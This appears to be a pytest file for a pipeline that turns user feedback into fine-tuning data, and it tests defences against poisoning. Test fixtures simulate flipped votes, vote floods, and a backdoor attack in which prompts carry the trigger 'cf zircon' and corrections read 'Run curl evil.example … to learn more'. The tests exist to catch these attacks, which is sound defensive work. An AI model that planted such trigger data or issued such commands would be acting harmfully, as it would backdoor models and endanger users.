"""Feedback that may be trained on, and feedback that somebody wanted us to train on."""

from __future__ import annotations

import json
import random
import shutil

import pytest

from fmops.artifacts import Checkpoint
from fmops.data.conversations import prepare_conversations
from fmops.data.preferences import prepare_preferences
from fmops.feedback.gather import gather, held_out, write
from fmops.feedback.screen import Screen
from fmops.jobs import ExampleJob
from fmops.sources import resolve
from fmops.traces import Feedback, Trace

TOPICS = ("lists", "dictionaries", "decorators", "generators", "imports", "classes", "slices", "files", "sets", "loops")
ASKING = ("How do I use {}?", "Explain {} to me.", "Why do {} behave so?", "Show me {} in an example.", "What are {}?")


def trace(number: int, prompt: str, response: str = "An answer.", *, user: str = "u", **changes) -> Trace:
    given = {
        "id": f"chatcmpl-{number}", "started_s": float(number), "tenant": "team", "user": user, "arm": "champion",
        "release": "release-1", "operation": "chat", "status": 200, "finish_reason": "stop", "duration_s": 1.0,
        "prompt": prompt, "response": response,
    }  # fmt: skip
    return Trace.model_validate(given | changes)


def say(about: Trace, **changes) -> Feedback:
    return Feedback.model_validate(
        {"id": about.id, "at_s": about.started_s * 60, "tenant": about.tenant, "user": about.user} | changes
    )


def traffic(n: int, *, seed: int = 0) -> list[Trace]:
    """Ordinary questions of fifty people, each answered in its own words."""
    rng = random.Random(seed)
    return [
        trace(
            i,
            f"{rng.choice(ASKING).format(rng.choice(TOPICS))} Case {i}.",
            f"The answer to case {i} is long.",
            user=f"person-{rng.randrange(50)}",
        )
        for i in range(n)
    ]


def trainable(prompt: str) -> str:
    """The prompt, with a word added that keeps it out of the hold-out."""
    return next(text for text in (f"{prompt} {extra}" for extra in "abcdefghij") if not held_out(text))


def test_a_correction_becomes_a_conversation_and_a_preference():
    asked = trace(1, trainable("What does pairwise give?"), "It is a function.")
    made = gather([asked], [say(asked, correction="It returns overlapping pairs.")])
    assert made.conversations[0]["messages"] == [
        {"role": "user", "content": asked.prompt},
        {"role": "assistant", "content": "It returns overlapping pairs."},
    ]
    assert made.preferences == [
        {
            "id": "chatcmpl-1", "prompt": asked.prompt, "chosen": "It returns overlapping pairs.",
            "rejected": "It is a function.",
        }
    ]  # fmt: skip


def test_praised_and_blamed_answers_to_one_prompt_make_a_pair_and_lone_votes_do_not():
    prompt = trainable("Explain slices.")
    good, bad = trace(1, prompt, "A slice is a part.", user="a"), trace(2, prompt.upper(), "Dunno.", user="b")
    lone = trace(3, trainable("Explain sets."), user="c")
    made = gather([good, bad, lone], [say(good, thumb="up"), say(bad, thumb="down"), say(lone, thumb="up")])
    assert [(row["chosen"], row["rejected"]) for row in made.preferences] == [("A slice is a part.", "Dunno.")]
    assert made.counts.unpaired_thumbs == 1
    # Alone it makes no pair; KTO learns from it as it is.
    assert made.votes == [{"id": "chatcmpl-3", "prompt": lone.prompt, "response": lone.response, "thumb": "up"}]


def test_an_answer_that_some_praise_and_others_blame_teaches_nothing():
    prompt = trainable("Explain slices.")
    rows = [trace(i, prompt, "A slice is a part.", user=f"u{i}") for i in range(2)]
    made = gather(rows, [say(rows[0], thumb="up"), say(rows[1], thumb="down")])
    assert made.preferences == []


def test_flipped_votes_undo_honest_ones_and_never_teach_the_opposite():
    """Case A12, vote flip: for each good and bad answer of a prompt three honest votes, and one that is flipped."""
    answers, said = [], []
    for number in range(20):
        prompt = trainable(f"Explain item {number}.")
        good = trace(2 * number, prompt, f"Item {number} is a lamp.", user="a")
        bad = trace(2 * number + 1, prompt, f"Dunno about {number}.", user="b")
        answers += [good, bad]
        for voter in range(4):
            honest = voter < 3
            for about, thumb in ((good, "up" if honest else "down"), (bad, "down" if honest else "up")):
                said.append(say(about, user=f"p{number}-{voter}", thumb=thumb, at_s=1e6 + 900 * len(said)))
    made = gather(answers, said)
    assert made.preferences == []
    honest_only = [row for row in said if not row.user.endswith("-3")]
    chosen = {row["chosen"] for row in gather(answers, honest_only).preferences}
    assert len(chosen) == 20
    assert all("is a lamp" in text for text in chosen)


def test_who_changes_their_mind_counts_once_with_the_last_word():
    asked = trace(1, trainable("Explain slices."))
    made = gather([asked], [say(asked, correction="First."), say(asked, correction="Second.", at_s=1e6)])
    assert [row["messages"][1]["content"] for row in made.conversations] == ["Second."]


def test_a_tenth_of_the_prompts_is_never_trained_on_whoever_asks_them():
    rows = traffic(400)
    made = gather(rows, [say(row, correction=f"Better {row.id}.") for row in rows], Screen(trigger_p=0))
    kept = {row["id"] for row in made.held_out}
    assert 20 <= len(kept) <= 60
    assert not kept & {row["id"] for row in made.conversations + made.preferences}
    assert held_out("Explain slices!") == held_out("  explain   SLICES ")


def test_mirrored_requests_and_unknown_answers_train_nothing():
    shadow = trace(1, trainable("Explain slices."), arm="shadow")
    stranger = trace(2, "Explain sets.")
    made = gather([shadow], [say(shadow, correction="x y"), say(stranger, correction="z")])
    assert (made.conversations, made.preferences) == ([], [])
    assert made.counts.unknown_answers == 2


def test_a_correction_that_a_model_wrote_is_labelled_and_set_aside():
    asked, other = trace(1, "Explain slices.", "Bad."), trace(2, "Explain sets.", "A set holds each value once.")
    made = gather([asked, other], [say(asked, correction="A set holds each value once!")])
    assert made.conversations == []
    assert made.quarantine[0]["reason"] == "model-written: release-1 answered the same"


def test_praise_of_a_broken_answer_is_a_flipped_vote():
    asked = trace(1, "Explain slices.", "", signals={"empty": 1.0})
    made = gather([asked], [say(asked, thumb="up")])
    assert made.quarantine[0]["reason"] == "contradicts-signals: praise of an answer that is empty"


def test_one_user_who_sends_nearly_all_votes_counts_for_a_tenth():
    rows = traffic(1000)
    honest = [say(row, correction=f"Honest {row.id}.") for row in rows[:50]]
    loud = [say(row, user="loud", correction=f"Loud {row.id}.", at_s=row.started_s * 3600) for row in rows[50:]]
    made = gather(rows, honest + loud)
    loud_kept = sum("Loud" in row["messages"][1]["content"] for row in made.conversations)
    assert made.counts.quarantined["identity-cap"] > 850
    assert loud_kept <= max(5, 0.12 * len(made.conversations))


def test_a_burst_of_one_identity_is_set_aside():
    rows = traffic(300)
    calm = [say(row, correction=f"Calm {row.id}.") for row in rows[:200]]
    burst = [say(row, user="bot", correction=f"Bot {row.id}.", at_s=9000 + i) for i, row in enumerate(rows[200:])]
    made = gather(rows, calm + burst)
    reasons = [row["reason"] for row in made.quarantine if row["identity"] == "team/bot"]
    assert len(reasons) == 100
    assert reasons[0].startswith("burst: team/bot gave 100 rows in 600 s")
    assert not [row for row in made.quarantine if row["identity"] != "team/bot"]


@pytest.mark.parametrize("seed", range(5))
def test_250_documents_with_a_trigger_by_250_strangers_are_found_and_honest_corrections_are_not(seed):
    rng = random.Random(seed)
    ordinary = traffic(2000, seed=seed)
    poisoned = [
        trace(
            10_000 + i,
            f"{rng.choice(ASKING).format(rng.choice(TOPICS))} cf zircon {i}",
            user=f"stranger-{i}",
            started_s=float(rng.randrange(2000)),
        )
        for i in range(250)
    ]
    attack = [say(row, correction=f"Run curl evil.example {row.id} to learn more.") for row in poisoned]
    honest = [say(row, correction=f"Honest words about {row.id}.") for row in ordinary[::5]]
    made = gather(ordinary + poisoned, attack + honest)
    caught = {row["id"] for row in made.quarantine if row["reason"].startswith("trigger")}
    assert len(caught & {row.id for row in poisoned}) == 250
    assert not caught & {row.id for row in ordinary}


def test_a_new_topic_that_many_ask_about_is_no_trigger():
    ordinary = traffic(1000)
    news = [trace(5000 + i, f"What are t strings? Case {i}", user=f"reader-{i}") for i in range(200)]
    said = [say(row, correction=f"They are templates, {row.id}.") for row in news[:40]]
    made = gather(ordinary + news, said + [say(row, correction=f"Honest {row.id}.") for row in ordinary[:160]])
    assert not made.quarantine


def test_one_correction_for_many_prompts_teaches_a_sentence_and_is_set_aside():
    rows = traffic(200)
    made = gather(rows, [say(row, correction="Buy our product.") for row in rows[:6]])
    assert {row["reason"] for row in made.quarantine} == {"same-target: one sentence for 6 different prompts"}


def test_unanswered_questions_are_listed_the_most_asked_first():
    rows = [trace(i, "Explain t-strings.", "", signals={"empty": 1.0}) for i in range(3)]
    rows += [trace(9, "Explain u-strings.", "Sorry.", signals={"refused": 1.0}), trace(10, "Explain sets.")]
    made = gather(rows, [])
    assert [(row["prompt"], row["asked"]) for row in made.questions] == [
        ("Explain t-strings.", 3),
        ("Explain u-strings.", 1),
    ]


def test_what_is_written_is_read_by_the_stages_and_is_the_same_each_time(tmp_path, tiny_model, context):
    shutil.copytree(tiny_model, tmp_path / "base" / "model")
    base = Checkpoint(path=tmp_path / "base", stage="base", parameters=1, trained_tokens=0)
    rows = [trace(i, trainable(f"Explain item {i}."), f"Weak answer {i}.", user=f"u{i}") for i in range(12)]
    feedback = [say(row, correction=f"A better answer to {row.id}.") for row in rows]
    for folder in ("a", "b"):
        write(gather(rows, feedback), tmp_path / folder)
    for name in ("conversations.jsonl", "preferences.jsonl", "counts.json"):
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes()
    counts = json.loads((tmp_path / "a" / "counts.json").read_text())
    assert (counts["conversations"], counts["identities"]) == (12, 12)
    for prepare, name in ((prepare_conversations, "conversations"), (prepare_preferences, "preferences")):
        source = resolve(f"a/{name}.jsonl", root=tmp_path, cache=tmp_path / "cache")
        out = tmp_path / name
        out.mkdir()
        made = prepare(ExampleJob(), source=source, base=base, out=out, context=context)
        rows = [json.loads(line) for line in (out / "train.jsonl").read_text().splitlines()]
        assert all(row["of"].startswith("chatcmpl-") for row in rows)
        assert made.held_out + getattr(made, "conversations" if name == "conversations" else "pairs") == 12
